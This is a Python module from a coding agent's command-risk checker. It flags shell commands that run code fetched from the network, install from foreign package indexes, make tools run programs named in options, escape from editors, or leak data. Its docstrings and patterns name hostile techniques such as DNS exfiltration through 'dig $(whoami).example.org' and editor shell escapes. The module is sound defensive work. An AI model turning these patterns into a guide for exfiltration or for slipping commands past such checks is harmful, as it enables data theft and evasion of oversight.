"""Rules about code that is neither the project's nor on the line: fetched from the network, or named in an option."""

from __future__ import annotations

import os
import re
from collections.abc import Iterator

from clew.agent.command_risk.command import Findings, InspectedCommand, RiskFinding
from clew.agent.command_risk.destinations import LOOPBACK
from clew.agent.command_risk.facts import RiskKind
from clew.agent.command_risk.programs import PROGRAM_FLAGS, ProgramFlags
from clew.agent.safe_text import printable_line
from clew.shell import UNKNOWN, Word

_FETCHERS = frozenset(
    (
        "npx|pnpx|bunx|uvx|pkgx|pipx run|uv tool run|uv x|yarn dlx|pnpm dlx|bun x|npm exec|npm x|npm create|npm init|"
        "yarn create|pnpm create|bun create|nix run|nix shell|nix-shell|dotnet tool exec|dnx|deno x|jbang|cargo script"
    ).split("|")
)
"""Commands that run a package which they fetch first."""
_USUAL_TOOLS = frozenset(
    "tsc prettier eslint vitest jest mocha playwright cypress webpack vite rollup esbuild tsx ts-node next nuxt astro "
    "svelte-check vue-tsc prisma drizzle-kit tailwindcss stylelint biome turbo nx lint-staged storybook ng nodemon c8 "
    "nyc".split()
)
"""Programs that projects have among their packages; their names are taken in the registry."""
_ADDRESS_RUNNERS = frozenset("deno bun scala-cli kotlin groovy jbang swift".split())
_GO_PACKAGE = re.compile(r"[\w-]+(?:\.[\w-]+)+/|.*@")
_STAYS_LOCAL = ("--no-install", "--no", "--offline", "--help", "--version")
_FETCHER_VALUES = frozenset("-p --package --from --with --python -c --call --spec -w --workspace --prefix".split())
_INSTALLERS = re.compile(
    r"(?:npm|pnpm|yarn|bun) (?:install|i|add)|(?:pip[\d.]*|uv pip|pipenv|pipx) install|(?:uv|poetry|pdm|rye|hatch) add|"
    r"gem install|composer (?:require|create-project)|cargo (?:install|add)|go (?:get|install)"
)
_URL_SPEC = re.compile(
    r"^(?:[\w.\[\]-]+\s*@\s*)?(?:git\+|git://|git@|https?://|ssh://|github:|gitlab:|bitbucket:|gist:)", re.IGNORECASE
)
_NPM_REPOSITORY = re.compile(r"^[A-Za-z\d][\w.-]*/[\w.-]+(?:#.*)?$")
_INDEX_FLAG = re.compile(
    r"^(?:-i|-f|--index-url|--extra-index-url|--index|--default-index|--find-links|--registry|--source|--repository|"
    r"--trusted-host)(?:=(.*))?$"
)
_INDEX_VARIABLE = re.compile(
    r"^(?:PIP_(?:EXTRA_)?INDEX_URL|PIP_FIND_LINKS|UV_(?:EXTRA_|DEFAULT_)?INDEX(?:_URL)?|npm_config_registry|NPM_CONFIG_REGISTRY|GOPROXY)$"
)
_PACKAGE_PROGRAM = re.compile(r"pip[\d.]*|uv|npm|pnpm|yarn|bun|gem|poetry|pdm|pipenv|pipx|twine|easy_install")
_NAME_SERVICES = frozenset("dig nslookup host drill ping ping6 traceroute getent".split())
_EDITORS = frozenset("vim vi nvim view ex vimdiff gvim less more most man git-editor".split())
_EDITOR_ESCAPE = re.compile(
    r"^(?:\+|-c|--cmd)?[:\s+%|]*!|\bsystem\(|[:|]\s*(?:!|ter(?:m|minal)?\b|lua\b|py3?(?:thon3?)?\b)"
)
_ED_ESCAPE = re.compile(r"^\s*(?:[\d,$.]*\s*[rweR]\s*)?!", re.MULTILINE)


def running_fetched_code(command: InspectedCommand) -> Findings:
    """`npx x`, `uvx x`, `deno run https://...`, `go run example.org/x@v1`: code from the network runs at once."""
    package = _fetched_package(command)
    if package is not None and not _is_installed(command, package):
        name = printable_line(package.replace(UNKNOWN, "…")) or "a package"
        yield command.finding(RiskKind.REMOTE_CODE, f"fetches {name} and runs it", f"{command.name} {name}")
    subcommand = next(iter(command.positional), Word("")).text
    others = [word.text for word in command.positional]
    if command.name in _ADDRESS_RUNNERS and any(re.match(r"(?:https?|npm|jsr):", text) for text in others):
        yield command.finding(RiskKind.REMOTE_CODE, "runs code from an address", always_ask=True)
    elif (command.name, subcommand) == ("go", "run") and any(map(_GO_PACKAGE.match, others[1:2])):
        yield command.finding(RiskKind.REMOTE_CODE, "fetches a program and runs it")
    elif (command.name, subcommand) == ("uv", "run") and (
        command.has_flag("--with", "--with-requirements") or any(map(_URL_SPEC.match, command.texts))
    ):
        yield command.finding(RiskKind.REMOTE_CODE, "fetches packages that the project does not name, and runs them")


def _fetched_package(command: InspectedCommand) -> str | None:
    positional = [word.text for word in command.positional]
    for count in (2, 1, 0):
        if " ".join([command.name, *positional[:count]]) in _FETCHERS:
            break
    else:
        return None
    if any(command.has_flag(flag) for flag in _STAYS_LOCAL if flag != "--no") or "--no" in command.texts:
        return None
    rest = positional[count:]
    if positional[:1] == ["init"] and not rest:  # `npm init` alone asks questions and writes a file
        return None
    # Behind its name, the flags are those of the package itself.
    texts = command.texts
    package = next((at for at, text in enumerate(texts) if _is_package(texts, at)), len(texts))
    texts = texts[: package + 1]
    named = [texts[at + 1] for at, text in enumerate(texts[:-1]) if text in {"-p", "--package", "--from", "--spec"}]
    named += [text.partition("=")[2] for text in texts if text.startswith(("--package=", "--from=", "--spec="))]
    skipped = {texts[at + 1] for at, text in enumerate(texts[:-1]) if text in _FETCHER_VALUES}
    own = next((text for text in rest if text not in skipped), "")
    return named[0] if named else own


def _is_package(texts: list[str], at: int) -> bool:
    is_word = not texts[at].startswith("-")
    is_value = at > 0 and texts[at - 1] in _FETCHER_VALUES
    is_subcommand = texts[at] in {"run", "tool", "x", "dlx", "exec", "create", "init", "shell"} and at < 2
    return is_word and not is_value and not is_subcommand


def _is_installed(command: InspectedCommand, package: str) -> bool:
    """Whether the project has the program already: then `npx` runs that."""
    name = package.rpartition("/")[2]
    if command.name in {"npx", "npm", "bunx"} and package in _USUAL_TOOLS:
        return True
    if (
        not name
        or command.folder is None
        or UNKNOWN in name
        or "@" in name
        or command.name not in {"npx", "npm", "bunx"}
    ):
        return False
    folder = command.folder
    while True:
        if os.path.exists(os.path.join(folder, "node_modules", ".bin", name)):  # noqa: PTH110, PTH118
            return True
        if folder in (command.paths.project, "/"):
            return False
        folder = os.path.dirname(folder)  # noqa: PTH120


def installing_from_elsewhere(command: InspectedCommand) -> Findings:
    """Packages by their address, or from an index that the command names."""
    what = " ".join([command.name, *(word.text for word in command.positional[:2])])
    if found := _INSTALLERS.match(what):
        count = len(found[0].split()) - 1
        is_npm = command.name in {"npm", "pnpm", "yarn", "bun"}
        for word in command.args:
            text = word.text if word.text not in {one.text for one in command.positional[:count]} else ""
            if _URL_SPEC.match(text) or (is_npm and _NPM_REPOSITORY.match(text) and not _is_folder(command, text)):
                name = printable_line(text)
                yield command.finding(RiskKind.REMOTE_CODE, f"installs code from {name}", f"{found[0]} {name}")
    for source in _indexes(command) if _PACKAGE_PROGRAM.fullmatch(command.name) else ():
        if not LOOPBACK.match(source):
            name = printable_line(source.replace(UNKNOWN, "…"))
            yield command.finding(RiskKind.REMOTE_CODE, f"installs from {name}", f"{what} from {name}")


def _is_folder(command: InspectedCommand, text: str) -> bool:
    return command.folder is not None and os.path.isdir(os.path.join(command.folder, text))  # noqa: PTH112, PTH118


def _indexes(command: InspectedCommand) -> Iterator[str]:
    texts = command.texts
    for at, text in enumerate(texts):
        if found := _INDEX_FLAG.match(text):
            value = found[1] if found[1] is not None else texts[at + 1] if at + 1 < len(texts) else ""
            if "://" in value or text.startswith("--trusted-host") or UNKNOWN in value:
                yield value
    for name, value in command.parsed.assignments:
        if _INDEX_VARIABLE.match(name) and value.text not in {"off", "direct"}:
            yield value.text


# -- programs named in options -----------------------------------------------------------------------------------------


def running_named_programs(command: InspectedCommand) -> Findings:
    """`tar -I x`, `rsync -e x`, `rg --pre x`, `man -P x`: the option names a program that is run."""
    for table in PROGRAM_FLAGS:
        if command.name not in table.commands.split("|"):
            continue
        for value in _values_of(command, table):
            program = value.replace(UNKNOWN, "…").split()[0].rpartition("/")[2] if value.split() else ""
            if program not in table.harmless.split():
                yield _named_program(command, value)
    flags = {"difftool": {"-x"}, "clone": {"-u"}, "grep": {"-O"}}
    for subcommand, its_flags in flags.items() if command.name == "git" else ():
        if command.is_git(subcommand) and its_flags & {text[:2] for text in command.texts}:
            yield _named_program(command, f"what {' or '.join(its_flags)} names")


def _named_program(command: InspectedCommand, value: str) -> RiskFinding:
    return command.finding(RiskKind.HIDDEN_CODE, f"makes {command.name} run `{printable_line(value)}`", always_ask=True)


def _values_of(command: InspectedCommand, table: ProgramFlags) -> Iterator[str]:
    flags = table.flags.split()
    texts = command.texts
    for at, text in enumerate(texts):
        flag, equals, value = text.partition("=")
        if equals and flag in flags:
            yield value
        elif text in flags:
            yield texts[at + 1] if at + 1 < len(texts) else ""
        elif any(len(one) == 2 and text.startswith(one) and len(text) > 2 for one in flags) and table.is_attached:
            yield text[2:]


def running_foreign_rules(command: InspectedCommand) -> Findings:
    """`make SHELL=x`, `make --eval=x`, `make -f` with a file outside the project."""
    if command.name not in {"make", "gmake", "just", "ninja"}:
        return
    for word in command.args:
        if re.match(r"(?:SHELL|\.SHELLFLAGS|MAKEFLAGS|MAKE)=|--eval|-E$", word.text):
            yield command.finding(RiskKind.HIDDEN_CODE, f"changes what {command.name} runs", always_ask=True)
    for word, after in zip(command.args, command.args[1:], strict=False):
        is_file = word.text in {"-f", "--file", "--makefile", "--justfile", "-C", "--directory"}
        if is_file and after.text != "-" and command.path_of(after).location != "inside":
            yield command.finding(RiskKind.HIDDEN_CODE, "runs rules from outside the project", always_ask=True)


def escaping_editors(command: InspectedCommand) -> Findings:
    """`vim -c '!x'`, `less +!x`, `ed <<< '!x'`."""
    if command.name in _EDITORS and any(_EDITOR_ESCAPE.search(text) for text in command.texts):
        yield command.finding(RiskKind.HIDDEN_CODE, "runs a command from within an editor or a pager", always_ask=True)
    if command.name in {"ed", "ex", "vim", "vi", "red"} and _ED_ESCAPE.search(command.parsed.stdin_text or ""):
        yield command.finding(RiskKind.HIDDEN_CODE, "runs a command from within an editor", always_ask=True)


def asking_name_services(command: InspectedCommand) -> Findings:
    """`dig $(whoami).example.org`: a name that is asked for carries data away."""
    if command.name in _NAME_SERVICES and any(_is_made(word) for word in command.args):
        yield command.finding(RiskKind.SENDING, "sends what another command prints, in the name that it asks for")


def _is_made(word: Word) -> bool:
    return bool(word.substitutions) and "." in word.text


_PS_VALUES = frozenset("-p -o -C -u -U -g -G -t -s -O --pid --ppid --user --format --sort --tty p o O U t".split())


def showing_processes(command: InspectedCommand) -> Findings:
    """`ps auxe` and `ps -ef e` show the environment of processes; `ps -e` does not."""
    if command.name != "ps":
        return
    texts = command.texts
    plain = [text for at, text in enumerate(texts) if at == 0 or texts[at - 1] not in _PS_VALUES]
    if any(re.fullmatch(r"[A-Za-z]*e[A-Za-z]*", text) for text in plain):
        yield command.finding(RiskKind.SECRETS, "shows the environment of processes, with the keys in it")
